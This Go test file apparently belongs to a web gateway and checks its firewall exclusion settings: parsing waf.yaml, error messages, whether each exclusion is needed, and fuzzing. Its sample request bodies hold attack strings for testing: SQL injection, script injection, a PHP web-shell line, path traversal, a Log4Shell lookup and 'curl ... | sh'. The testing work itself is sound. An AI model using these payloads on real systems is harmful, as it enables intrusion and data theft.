package gateway_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/doorward/doorward/gateway"
	"github.com/doorward/doorward/gateway/waf"
	"github.com/doorward/doorward/seclang"
)

// writeExclusions makes an application's folder with a waf.yaml.
func writeExclusions(t *testing.T, text string) string {
	t.Helper()
	dir := writeApp(t, "title: Shop\nextends: generic\n")
	must(t, os.WriteFile(filepath.Join(dir, "waf.yaml"), []byte(text), 0o600))
	return dir
}

func TestLoadAppReadsExclusions(t *testing.T) {
	app, err := gateway.LoadApp(writeExclusions(t, `
exclusions:
  - path: [/ticket, /reply]
    parameter: [text, subject]
    rules: [941000-941999, 942100]
    source: https://shop.example.org/manual
    why: people write HTML
  - path: /upload
    target: FILES:file
    tags: [attack-rce]
    source: "seen: our own test"
    why: |
      people attach scripts
  - path: /static
    rules: [920420]
    source: "choice: an example"
    why: an example
`))
	must(t, err)
	rules := []gateway.RuleRange{{First: 941000, Last: 941999}, {First: 942100, Last: 942100}}
	want := []gateway.WAFExclusion{
		{Path: "/ticket", Parameter: "text", Rules: rules}, {Path: "/ticket", Parameter: "subject", Rules: rules},
		{Path: "/reply", Parameter: "text", Rules: rules}, {Path: "/reply", Parameter: "subject", Rules: rules},
		{Path: "/upload", Target: "FILES:file", Tags: []string{"attack-rce"}},
		{Path: "/static", Rules: []gateway.RuleRange{{First: 920420, Last: 920420}}},
	}
	if diff := cmp.Diff(want, app.Exclusions); diff != "" {
		t.Errorf("exclusions (-want +got):\n%s", diff)
	}
	app, err = gateway.LoadApp(writeApp(t, "title: Our desk\nextends: request-tracker\n"))
	must(t, err)
	base, err := gateway.LoadApp("request-tracker")
	must(t, err)
	if len(base.Exclusions) == 0 || !cmp.Equal(base.Exclusions, app.Exclusions) {
		t.Errorf("a folder that extends request-tracker has %d exclusions, want its %d", len(app.Exclusions), len(base.Exclusions))
	}
}

func TestLoadAppTellsWhatIsWrongWithExclusions(t *testing.T) {
	const rest = `rules: [942100], source: "choice: x", why: x}` + "\n"
	for _, c := range []struct{ name, text, want string }{
		{"nothing", "", "waf.yaml:1: the file is empty"},
		{"no YAML", "exclusions: [\n", "this is not valid YAML"},
		{"unknown key", "exclusion: []\n", `waf.yaml:1: unknown key "exclusion" (did you mean exclusions?)`},
		{"not a list", "exclusions: x\n", "waf.yaml:1: exclusions is a list"},
		{"unknown key of an item", "exclusions:\n  - {paths: /a, " + rest, `waf.yaml:2: unknown key "paths" (did you mean path?)`},
		{"no source", "exclusions:\n  - {path: /a, rules: [942100], why: x}\n", "waf.yaml:2: exclusions: 942100 has no source"},
		{"no why", "exclusions:\n  - {path: /a, rules: [942100], source: 'choice: x'}\n", "has no why"},
		{"no rules", "exclusions:\n  - {path: /a, source: 'choice: x', why: x}\n", "names no rule"},
		{"bad rule", "exclusions:\n  - {path: /a, rules: [sqli], source: 'choice: x', why: x}\n", `rule "sqli"`},
		{"backward range", "exclusions:\n  - {path: /a, rules: [942100-941100], source: 'choice: x', why: x}\n", `rule "942100-941100"`},
		{"everything", "exclusions:\n  - {" + rest, "takes its rules away from the whole site"},
		{"relative path", "exclusions:\n  - {path: a, " + rest, `path "a" does not begin with /`},
		{"bad target", "exclusions:\n  - {target: 'ARG:x', " + rest, "ARG"},
		{"counted target", "exclusions:\n  - {target: '&ARGS:x', " + rest, "without ! and &"},
		{"empty list", "exclusions:\n  - {path: [], " + rest, "the list is empty"},
		{"twice", "exclusions:\n  - {path: /a, " + rest + "  - {path: /a, " + rest, "waf.yaml:3: exclusions: 942100 below /a stands here twice"},
		{"too many", "exclusions:\n  - {path: /a, parameter: [" + strings.Repeat("a, ", 600) + "b], " + rest, "makes more than 500 exclusions"},
	} {
		t.Run(c.name, func(t *testing.T) {
			_, err := gateway.LoadApp(writeExclusions(t, c.text))
			if err == nil || !strings.Contains(err.Error(), c.want) {
				t.Errorf("LoadApp: %v, want %q in it", err, c.want)
			}
		})
	}
}

// excludedText is what people write into fields whose rules the folders leave out: something of every family of attacks.
const excludedText = `<p>Hello <b>Anna</b>, see <a href="https://192.0.2.7/guide" onclick="return false">the guide</a>.</p>
<script>alert(document.cookie)</script> SELECT name FROM users WHERE id = 1 OR 1=1 UNION SELECT 1, password FROM accounts -- ;
cat /etc/passwd; rm -rf /tmp/x && curl http://127.0.0.1/x.sh | sh <?php system($_GET['c']); include('../../../../etc/passwd'); ?>
GET /index.php?page=../../../etc/passwd HTTP/1.1 ${jndi:ldap://127.0.0.1/a} {{7*7}}`

// searchedText is what people look for. The rules on scripts hold there.
const searchedText = `owner = 'root' or 1=1 -- Subject LIKE 'x' UNION SELECT password FROM users OR 1=1 -- cat /etc/passwd; curl http://127.0.0.1/x.sh | sh
include('http://192.0.2.7/x.php?'); system($_GET['c']); http://169.254.169.254/ ../../../etc/passwd`

// excludedValues are names and values for targets whose own words do not say them.
func excludedValues(target string) (name, value string) {
	for _, v := range [][3]string{
		{`ARGS:/^(new|\d+)-(RefersTo|DependsOn|MemberOf)$/`, "17-RefersTo", "http://127.0.0.1:8080/wiki http://localhost/a"},
		{`ARGS:/^ValueOf/`, "ValueOfContent", searchedText},
		{`ARGS:/^UpdateContent-\d+$/`, "UpdateContent-17", excludedText},
		{`ARGS:/^C__CMDB__CAT__COMMENTARY_/`, "C__CMDB__CAT__COMMENTARY_113", excludedText},
		{`ARGS:Query`, "Query", searchedText},
		{`ARGS:q`, "q", searchedText},
		{`REQUEST_HEADERS:Referer`, "Referer", "https://desk.example.org/Search/Edit.html?Query=id+%3E+0%0D%0AAND+Owner+%3D+1"},
		{`ARGS:LinkValueTo`, "LinkValueTo", "http://127.0.0.1/__CustomField__?at=http://localhost/"},
		{`ARGS:IncludeContentForValue`, "IncludeContentForValue", "http://127.0.0.1/__id__?at=http://localhost/"},
	} {
		if v[0] == target {
			return v[1], v[2]
		}
	}
	_, name, _ = strings.Cut(target, ":")
	return name, excludedText
}

// excludedRequest is a request that needs the exclusion.
func excludedRequest(t *testing.T, e gateway.WAFExclusion) *http.Request {
	t.Helper()
	target := e.Target
	if e.Parameter != "" {
		target = "ARGS:" + e.Parameter
	}
	name, value := excludedValues(target)
	var body bytes.Buffer
	kind := "application/x-www-form-urlencoded"
	switch variable, _, _ := strings.Cut(target, ":"); variable {
	case "ARGS":
		if path, ok := strings.CutPrefix(name, "json."); ok {
			text, err := json.Marshal(value)
			must(t, err)
			for _, key := range slices.Backward(strings.Split(path, ".")) {
				text = fmt.Appendf(nil, "{%q:%s}", key, text)
			}
			body.Write(text)
			kind = "application/json"
			break
		}
		body.WriteString(url.Values{name: {value}, "id": {"17"}}.Encode())
	case "FILES":
		form := multipart.NewWriter(&body)
		for _, file := range []string{"shell.php", "web.config", "run.jsp"} {
			part, err := form.CreateFormFile(name, file)
			must(t, err)
			fmt.Fprint(part, "x")
		}
		must(t, form.Close())
		kind = form.FormDataContentType()
	case "REQUEST_HEADERS", "REQUEST_FILENAME":
		body.WriteString("id=17")
	default:
		t.Fatalf("this test makes no requests with %s", variable)
	}
	r := httptest.NewRequest("POST", "https://desk.example.org"+e.Path, bytes.NewReader(body.Bytes()))
	r.Header.Set("Content-Type", kind)
	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
	r.Header.Set("Accept", "text/html")
	if strings.HasPrefix(target, "REQUEST_HEADERS:") {
		r.Header.Set(name, value)
	}
	return r
}

// judgeBy tells which rules match in a request at a site, and whether it is refused.
func judgeBy(t *testing.T, engine *waf.Engine, exclusions []gateway.WAFExclusion, r *http.Request) (refused bool, ids []int) {
	t.Helper()
	o := waf.SiteOptions{Mode: waf.Block, Answers: waf.Off, ParanoiaLevel: 1, InboundThreshold: 5, OutboundThreshold: 4, BodyLimit: 1 << 20, AnswerLimit: 1 << 10}
	for _, e := range exclusions {
		o.Exclusions = append(o.Exclusions, e.Compile())
	}
	site, err := engine.Site(o)
	must(t, err)
	now := time.Now()
	covers := func(prefix string) bool { return r.URL.Path == prefix || strings.HasPrefix(r.URL.Path, prefix+"/") }
	i, verdict, err := site.Inspect(r, waf.Request{ID: "x", Client: netip.MustParseAddr("127.0.0.1"), Host: r.Host, URI: r.URL.RequestURI(), Covers: covers}, now)
	must(t, err)
	if verdict == nil {
		_, verdict, err = i.Body(r.Body)
		must(t, err)
	}
	i.Finish(now, func(m seclang.Match) { ids = append(ids, m.Rule.ID) })
	return verdict != nil, ids
}

// TestEveryExclusionIsNeeded: for each exclusion of each folder there is a request that is refused without it and passes with it, and
// each of its ranges of rules has a rule that would have matched.
func TestEveryExclusionIsNeeded(t *testing.T) {
	engine, err := waf.NewEngine(waf.Doorward, 64<<20, nil)
	must(t, err)
	seen := map[gateway.RuleRange]bool{}
	for _, name := range gateway.AppNames() {
		app, err := gateway.LoadApp(name)
		must(t, err)
		for n, e := range app.Exclusions {
			others := slices.Delete(slices.Clone(app.Exclusions), n, n+1)
			refused, without := judgeBy(t, engine, others, excludedRequest(t, e))
			strict := !strings.HasPrefix(e.Target, "REQUEST_HEADERS") // one header alone may stay below the threshold
			if !refused && strict {
				t.Errorf("%s: %s%s below %s is not needed: without it the request passes, with matches of %v", name, e.Parameter, e.Target, e.Path, without)
			}
			if refused, with := judgeBy(t, engine, app.Exclusions, excludedRequest(t, e)); refused {
				t.Errorf("%s: %s%s below %s is not enough: rules %v match", name, e.Parameter, e.Target, e.Path, with)
			}
			for _, r := range e.Rules {
				hit := slices.ContainsFunc(without, func(id int) bool { return r.First <= id && id <= r.Last })
				seen[r] = seen[r] || hit
			}
		}
	}
	for r, hit := range seen {
		if !hit {
			t.Errorf("rules %s are left out, but none of them ever matched", r)
		}
	}
}

// TestRulesWaitForARequest: a gateway that nobody asks has no rules in memory, also for an application that comes with exclusions; a site's
// own exclusions are tried at once.
func TestRulesWaitForARequest(t *testing.T) {
	up := application(t, func(http.ResponseWriter, *http.Request) {})
	site := walled(t, up.URL)
	site.App = "request-tracker"
	r := start(t, gateway.Config{}, site)
	if got := r.WAF(); got.Fast+got.Plain != 0 {
		t.Errorf("before the first request: %+v, want no compiled rules", got)
	}
	if status, _ := r.get("/"); status != 200 {
		t.Errorf("got %d, want 200", status)
	}
	if got := r.WAF(); got.Fast+got.Plain != 1 {
		t.Errorf("after it: %+v, want one rule set", got)
	}
	site.WAF.Exclude = []gateway.WAFExclusion{{Rules: []gateway.RuleRange{{First: 1, Last: 2}}, Parameter: "a"}}
	cfg := r.cfg
	cfg.Sites = []gateway.SiteConfig{site}
	cfg.SetDefaults()
	if err := r.Reload(t.Context(), cfg); err == nil || !strings.Contains(err.Error(), "no rule that is loaded") {
		t.Errorf("an exclusion of no rule: got %v", err)
	}
}

// FuzzExclusions: whatever a waf.yaml holds, it is read or its problems are told with the file's name.
func FuzzExclusions(f *testing.F) {
	for _, text := range []string{"", "exclusions: []\n", "exclusions:\n  - {path: /a, rules: [942100], source: 'choice: x', why: x}\n",
		"exclusions:\n  - {path: [/a, /b], parameter: [c], target: [FILES], tags: [attack-sqli], source: 'choice: x', why: x}\n",
		"exclusions:\n  - {target: 'ARGS:/^(/', rules: [1-9], source: 'choice: x', why: x}\n", "exclusions: {a: &b [*b]}\n"} {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if _, err := gateway.LoadApp(writeExclusions(t, text)); err != nil && !strings.Contains(err.Error(), "waf.yaml") {
			t.Errorf("LoadApp: %v, want the file's name in it", err)
		}
	})
}
